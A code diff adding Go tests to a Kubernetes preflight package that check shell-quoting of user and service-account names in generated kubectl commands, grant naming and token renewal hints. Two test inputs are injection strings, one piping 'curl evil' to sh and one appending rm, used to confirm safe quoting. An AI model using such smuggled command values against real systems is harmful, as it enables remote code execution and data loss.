@@ -3,6 +3,7 @@ package preflight
 import (
 	"bytes"
 	"maps"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -79,4 +80,41 @@ func TestSubjectFlag(t *testing.T) {
 
 	require.Equal(t, "--serviceaccount=machines:driver", (&identity{user: "system:serviceaccount:machines:driver"}).subjectFlag())
 	require.Equal(t, "--user=jane", (&identity{user: "jane"}).subjectFlag())
+	require.Equal(t, "--user='x; curl evil|sh'", (&identity{user: "x; curl evil|sh"}).subjectFlag())
+	require.Equal(t, "--serviceaccount='a:b'\\''; rm'", (&identity{user: "system:serviceaccount:a:b'; rm"}).subjectFlag())
+	require.Equal(t, "--user=NAME", (&identity{}).subjectFlag(), "the server has not said who it is")
+}
+
+// TestGrantsDoNotCollide runs the remedies of all parts one after the other.
+func TestGrantsDoNotCollide(t *testing.T) {
+	t.Parallel()
+
+	s, names := &site{namespace: "n", driver: &identity{user: "jane"}}, map[string]bool{}
+
+	for _, r := range rights() {
+		name := strings.Fields(s.grant(r, r.verbs))[5]
+		require.False(t, names[name], name)
+		names[name] = true
+	}
+}
+
+func TestRenewal(t *testing.T) {
+	t.Parallel()
+
+	i := &identity{from: "--provider-kubeconfig", user: "system:serviceaccount:machines:driver"}
+	require.Contains(t, i.renewal(), "kubectl --namespace machines create token driver --duration=720h")
+
+	i.user = "jane"
+	require.NotContains(t, i.renewal(), "kubectl")
+	require.Contains(t, i.renewal(), "jane")
+}
+
+func TestQuoted(t *testing.T) {
+	t.Parallel()
+
+	require.Equal(t, "a-b.c/d:e=f", quoted("a-b.c/d:e=f"))
+	require.Equal(t, "'a b'", quoted("a b"))
+	require.Equal(t, `'a'\''; b'`, quoted("a'; b"))
+	require.Equal(t, "NAME", quoted("--kubeconfig=x"), "not a flag")
+	require.Equal(t, "NAME", quoted(""))
 }
